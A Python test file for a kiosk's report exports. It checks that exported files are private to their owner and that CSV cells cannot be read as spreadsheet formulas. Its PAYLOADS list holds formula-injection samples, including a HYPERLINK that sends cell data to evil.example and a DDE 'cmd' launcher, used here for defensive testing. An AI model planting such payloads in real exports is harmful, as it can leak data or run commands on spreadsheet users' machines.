"""Exports: what the kiosk writes for the production office is private to its owner, and safe to open in a
spreadsheet."""

from __future__ import annotations

import csv
import io
import os
import stat
from datetime import date

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from kiosk.cli import main
from kiosk.core.door import SceneState
from kiosk.core.events import DEVICE_PATTERN
from kiosk.reports import render
from kiosk.services import ServiceError, door, reports, roster, scenes
from kiosk.store import connect
from tests.reliability.conftest import size

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")  # what a spreadsheet reads as the start of a formula (OWASP)
PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "=cmd|' /C calc'!A0", "=1+2", "+1+2", "-1",
            "-2+3", "@SUM(A1:A9)", "\t=1+2", "\r=1+2", "=", "-", "'=1+2"]


@pytest.fixture
def umask_022():
    """A usual, permissive umask, which a file the kiosk writes must not follow."""
    previous = os.umask(0o022)
    yield
    os.umask(previous)


def kiosk(*args: str) -> int:
    with pytest.raises(SystemExit) as exit_info:
        main(list(args))
    return exit_info.value.code


def test_reports_and_roll_call_are_created_readable_by_their_owner_only(production_file, tmp_path, umask_022,
                                                                         capsys, figures):
    """Reports name people and the times they came and went: 0600 whatever the umask, overwritten ones too."""
    path, codes = production_file
    assert kiosk("--db", str(path), "scan", "42", codes["P01"]) == 0
    written = []
    for name in ("scene.pdf", "scene.csv", "scene.json", "day.csv"):
        target = tmp_path / name
        if name == "scene.csv":  # a file there already, world-readable: replaced by a private one
            target.write_text("old")
            target.chmod(0o644)
        args = ["--date", date.today().isoformat()] if name == "day.csv" else ["42"]
        assert kiosk("--db", str(path), "report", *args, "--out", str(target)) == 0
        written.append(target)
    rollcall = tmp_path / "rollcall.pdf"
    assert kiosk("--db", str(path), "inside", "--all", "--pdf", str(rollcall)) == 0
    written.append(rollcall)
    capsys.readouterr()
    modes = {target.name: oct(stat.S_IMODE(target.stat().st_mode)) for target in written}
    assert set(modes.values()) == {"0o600"}, modes
    assert not list(tmp_path.glob(".*.part"))
    figures.update(umask="022", files=len(written), modes=sorted(set(modes.values())))


def formula_like(text: st.SearchStrategy[str]) -> st.SearchStrategy[str]:
    """Text as an attacker would type it into a name, a title or a badge: mostly starting like a formula."""
    return st.one_of(st.sampled_from(PAYLOADS), st.builds(lambda start, rest: start + rest,
                                                          st.sampled_from(TRIGGERS), text), text)


LINE = st.text(st.characters(categories=("L", "N", "P", "S", "Zs")), min_size=1, max_size=40)
ANY = st.text(st.characters(codec="utf-8"), min_size=1, max_size=40)


def cells(data: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")) for cell in row]


def test_no_cell_of_a_written_csv_starts_like_a_formula(production_file, tmp_path, figures):
    """Names, titles, approvers, reasons, scanned input and kiosk ids reach the CSV as text a spreadsheet shows
    and never runs; the text stays readable (at most a leading ' added)."""
    path, _ = production_file
    db = connect(path)
    seen = {"examples": 0, "refused_on_input": 0, "cells": 0, "quoted": 0}

    def attempt(call, *args, **kwargs) -> bool:
        try:
            call(*args, **kwargs)
            return True
        except ServiceError:  # refused on input (the text rules): it never reaches a report
            seen["refused_on_input"] += 1
            return False

    @settings(max_examples=size("csv_examples"), deadline=None, database=None,
              suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
    @given(name=formula_like(LINE), title=formula_like(LINE), location=formula_like(LINE), by=formula_like(LINE),
           why=formula_like(LINE), raw=formula_like(ANY), kiosk=st.from_regex(DEVICE_PATTERN, fullmatch=True),
           bom=st.booleans())
    def check(name, title, location, by, why, raw, kiosk, bom):
        seen["examples"] += 1
        ref = f"s{seen['examples']}"
        attempt(roster.add_person, db, kiosk, name, "crew", ref=f"p{seen['examples']}")
        if not attempt(scenes.add_scene, db, ref, title, kiosk, location):
            scenes.add_scene(db, ref, "Bedroom", kiosk)
        scenes.set_state(db, ref, SceneState.OPEN, kiosk)
        if attempt(scenes.approve, db, ref, (f"p{seen['examples']}",), by, kiosk):
            attempt(door.admit_by_lookup, db, ref, f"p{seen['examples']}", "set", why, kiosk, by=by)
        door.scan(db, ref, raw, "set", kiosk)
        out = tmp_path / "scene.csv"
        render(reports.scene_report(db, ref), out, "csv", bom=bom)
        written = cells(out.read_bytes())
        assert not [cell for cell in written if cell.startswith(TRIGGERS)]
        stored = db.execute("SELECT title FROM scenes WHERE ref = ?", [ref]).fetchone()[0]
        assert stored in written or "'" + stored in written  # readable: the text itself, at most quoted
        seen["cells"] += len(written)
        seen["quoted"] += sum(cell.startswith("'") and not cell.startswith("''") for cell in written)

    check()
    out = tmp_path / "day.csv"
    render(reports.day_report(db, date.today()), out, "csv")  # every scene of the run in one file
    day = cells(out.read_bytes())
    assert not [cell for cell in day if cell.startswith(TRIGGERS)]
    db.close()
    figures.update(examples=seen["examples"], cells_checked=seen["cells"] + len(day), quoted=seen["quoted"],
                   refused_on_input=seen["refused_on_input"], formula_cells=0)
